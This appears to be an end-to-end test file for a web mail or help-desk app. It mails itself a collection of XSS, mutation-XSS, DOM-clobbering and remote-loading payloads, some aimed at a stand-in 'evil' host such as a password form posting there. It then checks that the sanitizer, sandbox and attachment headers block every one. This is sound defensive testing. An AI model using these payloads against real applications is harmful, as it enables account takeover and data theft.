// Mails that attack whoever reads them. Nothing runs, nothing is fetched from elsewhere, nothing of the page changes; and
// "show remote images" fetches exactly the image.
import http from 'node:http';
import { openBrowser, openConversation, openPage, picture, screenshot, signIn } from './browser.mjs';
import { Hub } from './hub.mjs';
import { sendMail } from './mail_client.mjs';
import { atEnd, check, equal, until } from './support.mjs';

// A server that nobody should ask: it remembers every request.
async function trap() {
  const hits = [];
  const server = http.createServer((request, response) => {
    hits.push(request.url);
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.setHeader('Content-Type', request.url.includes('.css') ? 'text/css' : request.url.includes('.js') ? 'text/javascript' : 'image/png');
    response.end(request.url.includes('.js') ? 'window.top.attacked = true' : picture);
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  atEnd(() => server.close() && server.closeAllConnections());
  return { hits, url: `http://127.0.0.1:${server.address().port}` };
}

const hit = "window.attacked=true;top.attacked=true;parent.attacked=true;document.title='attacked'";
const attacks = (evil) => ({
  script: `<script>${hit}</script><script src="${evil}/a.js"></script>`,
  'event handlers': `<img src=x onerror="${hit}"><body onload="${hit}"><div onmouseover="${hit}" onfocus="${hit}" tabindex=0 autofocus>over</div>` +
    `<details open ontoggle="${hit}"><summary>s</summary></details><input onfocus="${hit}" autofocus><video onerror="${hit}"><source></video>`,
  'script links': `<a id=evil href="javascript:${hit}">one</a><a href="  java\tscript:${hit}">two</a><a href="&#106;avascript:${hit}">three</a>` +
    `<a href="data:text/html,<script>${hit}</script>">four</a><a href="vbscript:x">five</a>`,
  svg: `<svg onload="${hit}"><script>${hit}</script><image href="${evil}/svg.png"/><use href="${evil}/use.svg#x"/>` +
    `<a xlink:href="javascript:${hit}"><text y=20>text</text></a><foreignObject><iframe src="javascript:${hit}"></iframe></foreignObject></svg>`,
  math: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${hit}&gt;"></table></mtext></math>`,
  frames: `<iframe src="${evil}/frame"></iframe><iframe srcdoc="<script>${hit}</script>"></iframe><object data="${evil}/object"></object>` +
    `<embed src="${evil}/embed"><frameset><frame src="${evil}/frame2"></frameset>`,
  form: `<form action="${evil}/form" method=post><input name=password><button formaction="${evil}/button">Sign in</button></form>`,
  'meta and base': `<meta http-equiv=refresh content="0;url=${evil}/refresh"><base href="${evil}/"><link rel=stylesheet href="${evil}/link.css">` +
    `<link rel=preload as=image href="${evil}/preload.png"><link rel=dns-prefetch href="${evil}"><img src="relative.png">`,
  css: `<style>@import url(${evil}/import.css); body{background:url(${evil}/style.png)} @font-face{font-family:x;src:url(${evil}/font.woff)} *{font-family:x}</style>` +
    `<div style="background:url(${evil}/inline.png);list-style:url('${evil}/list.png')">styled</div><table background="${evil}/table.png"><tr><td>x</table>` +
    `<div style="position:fixed;inset:0;background:red;z-index:99999">over everything</div>`,
  pixel: `<img id=remote src="${evil}/pixel.png" width=160 height=80><img srcset="${evil}/srcset.png 1x"><picture><source srcset="${evil}/source.png"></picture>` +
    `<video poster="${evil}/poster.png" src="${evil}/video.mp4"></video><audio src="${evil}/audio.mp3" autoplay></audio><a ping="${evil}/ping" href="#x">x</a>`,
  clobbering: `<form id=body><input name=innerHTML><input name=childNodes></form><img name=cookie><a id=defaultView></a><img id=getElementById>`,
  deep: `${'<div>'.repeat(3000)}deep${'</div>'.repeat(3000)}<p>after</p>`,
});

const mailOf = (name, html, n) => `From: Mallory <mallory-${n}@evil.test>
To: support@demo.localhost
Subject: attack by ${name}
Message-ID: <attack-${n}@evil.test>
Date: Sun, 22 Nov 2026 10:00:00 +0000
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: base64

${Buffer.from(`<html><body><p>begin ${name}</p>${html}<p>end of ${name}</p></body></html>`).toString('base64').replace(/.{76}/g, '$&\n')}
`;

async function ground() {
  const hub = await Hub.create('attacks');
  await hub.start();
  const evil = await trap();
  const browser = await openBrowser();
  const giulia = await openPage(browser, hub, '/app/all');
  await signIn(giulia.page, hub.signIns().giulia);
  const at = { hub, evil, giulia, browser, ids: {} };
  let n = 0;
  for (const [name, html] of Object.entries(attacks(evil.url)))
    await sendMail(hub.smtpPort, `mallory-${n}@evil.test`, 'support@demo.localhost', mailOf(name, html, n++));
  for (const one of await hub.conversations()) at.ids[one.subject.replace('attack by ', '')] = one.id;
  return at;
}

const filled = (page) => until('the mail to stand in its frame', () =>
  page.locator('article iframe').evaluate((frame) => /begin/.test(frame.contentDocument?.body?.textContent ?? '')));

async function untouched({ hub, giulia: { page, seen, context } }, name) {
  const url = new URL(page.url());
  equal(url.origin, hub.url, 'where the page is');
  const told = await page.evaluate(() => ({ attacked: window.attacked, title: document.title, frames: window.length,
    inner: document.querySelector('article iframe').contentWindow.attacked }));
  equal(told.attacked, undefined, 'a global of the page');
  equal(told.inner, undefined, 'a global of the frame');
  check(!told.title.includes('attacked'), 'the title of the page is ours');
  equal(told.frames, 1, 'frames of the page');
  equal(context.pages().length, 1, 'pages');
  equal(seen.errors.filter((text) => text.startsWith('exception')), [], `exceptions of the console at ${name}`);
}

async function harmless(at, name) {
  const { page } = at.giulia;
  await openConversation(page, at.ids[name]);
  await filled(page);
  const bad = await page.locator('article iframe').evaluate((frame) => {
    const page = frame.contentDocument;
    const all = [...page.body.querySelectorAll('*')];
    return {
      tags: [...page.querySelectorAll('script,iframe,object,embed,form,svg,math,meta[http-equiv],base,link,video,audio')].map((one) => one.tagName),
      handlers: all.flatMap((one) => one.getAttributeNames().filter((name) => name.startsWith('on'))),
      links: all.flatMap((one) => ['href', 'src', 'action', 'xlink:href'].map((key) => one.getAttribute(key) ?? '')
        .filter((value) => /^\s*(java\s*script|vbscript|data:text)/i.test(value))),
    };
  });
  equal(bad, { tags: [], handlers: [], links: [] }, 'what stands in the frame');
  const link = page.frameLocator('article iframe').locator('a').first();
  if (name === 'script links') await link.click({ noWaitAfter: true, timeout: 3000 });
  await untouched(at, name);
  equal(at.evil.hits, [], 'requests to the foreign server');
}

async function nothingLeft({ giulia: { page, seen }, evil, hub }) {
  // What the frame's policy stopped is told as a request that failed; what was answered left the machine.
  const answered = [];
  for (const request of seen.foreign) if (await request.response().catch(() => null)) answered.push(request.url());
  equal(answered, [], 'foreign requests that were answered');
  equal(evil.hits, [], 'requests to the foreign server');
  await page.locator('[data-timeline] li').first().waitFor();
  equal((await hub.get('/readyz', { token: '' })).ready, true, 'the hub is ready');
  await screenshot(page, 'attacks.png');
}

async function theImageOnly(at) {
  const { page } = at.giulia;
  await openConversation(page, at.ids.pixel);
  await filled(page);
  await page.locator('article', { hasText: 'Remote images are blocked' }).waitFor();
  equal(at.evil.hits, [], 'requests before the button');
  await page.click('button:has-text("Show remote images")');
  await until('the remote image to be drawn', () => page.locator('article iframe').evaluate((frame) =>
    frame.contentDocument?.querySelector('#remote')?.naturalWidth === 160));
  equal([...new Set(at.evil.hits)], ['/pixel.png'], 'what was asked of the foreign server');
  await untouched(at, 'pixel');
  await screenshot(page, 'attacks-images.png');
}

async function rawIsNotAPage(at) {
  const message = (await at.hub.messages(at.ids.script))[0];
  const raw = await at.hub.request('GET', `/api/v1/messages/${message.id}/raw`);
  equal(raw.status, 200, 'the source of the mail');
  check(/attachment/.test(raw.headers.get('content-disposition')), 'the source is a download');
  check(/sandbox/.test(raw.headers.get('content-security-policy')), 'the source has a sandbox');
  check(!/html/.test(raw.headers.get('content-type')), 'the source is no page');
}

async function htmlAttachment(at) {
  await sendMail(at.hub.smtpPort, 'mallory-x@evil.test', 'support@demo.localhost', `From: mallory-x@evil.test
To: support@demo.localhost
Subject: attachment
Message-ID: <attack-x@evil.test>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/plain

see
--b
Content-Type: text/html; name="a.html"
Content-Disposition: attachment; filename="a.html"

<script>${hit}</script>
--b
Content-Type: image/svg+xml; name="a.svg"
Content-Disposition: attachment; filename="a\\"b;.svg"

<svg xmlns="http://www.w3.org/2000/svg" onload="${hit}"/>
--b--
`);
  const found = (await at.hub.conversations()).find((one) => one.subject === 'attachment');
  for (const file of (await at.hub.messages(found.id))[0].attachments) {
    const answer = await at.hub.request('GET', `/api/v1/attachments/${file.id}`);
    equal(answer.status, 200, `the attachment ${file.name}`);
    equal(answer.headers.get('content-type'), 'application/octet-stream', `the type of ${file.name}`);
    check(answer.headers.get('content-disposition').startsWith('attachment'), `${file.name} is a download`);
  }
}

export async function run(test) {
  const at = await ground();
  for (const name of Object.keys(attacks(''))) await test(`attack by ${name}`, () => harmless(at, name));
  await test('nothing was asked of anybody else', () => nothingLeft(at));
  await test('remote images come on request, and only they', () => theImageOnly(at));
  await test('the source of a mail is no page', () => rawIsNotAPage(at));
  await test('attached HTML and SVG are downloads', () => htmlAttachment(at));
}
